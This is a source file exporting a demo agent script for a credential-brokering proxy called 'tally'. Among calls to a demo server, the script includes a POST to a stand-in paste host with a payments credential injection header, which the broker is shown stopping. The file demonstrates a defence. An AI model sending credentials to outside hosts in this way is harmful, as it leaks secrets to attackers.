/**
 * The agent of the demo: a plain program that knows the broker's address, its run's token and the name of a
 * credential. It is written to the demo's directory and run by `tally run`, like anybody's.
 */
export const AGENT_SCRIPT = `const { TALLY_PROXY_URL, TALLY_RUN_TOKEN, DEMO_SERVER } = process.env;

async function call(method, url, note) {
  const response = await fetch(TALLY_PROXY_URL, {
    method,
    headers: {
      'X-AS-Target-URL': url,
      'X-AS-Session-Token': TALLY_RUN_TOKEN,
      'X-AS-Inject-Bearer': 'PAYMENTS_KEY', // a name; the value never comes here
    },
  });
  const text = (await response.text()).trim();
  const { pathname, host } = new URL(url);
  const where = url.startsWith(DEMO_SERVER) ? pathname : host + pathname;
  console.log('  agent  ' + (method + ' ' + where).padEnd(32) + ' ' + response.status + '  ' + note(text));
}

const asIs = (text) => text;
const reason = (text) => 'stopped by the broker: ' + JSON.parse(text).reason;

await call('GET', DEMO_SERVER + '/balance', asIs);
await call('POST', 'https://paste.example/upload', reason);
await call('POST', DEMO_SERVER + '/refund', asIs);
await call('GET', DEMO_SERVER + '/debug', asIs);
`;
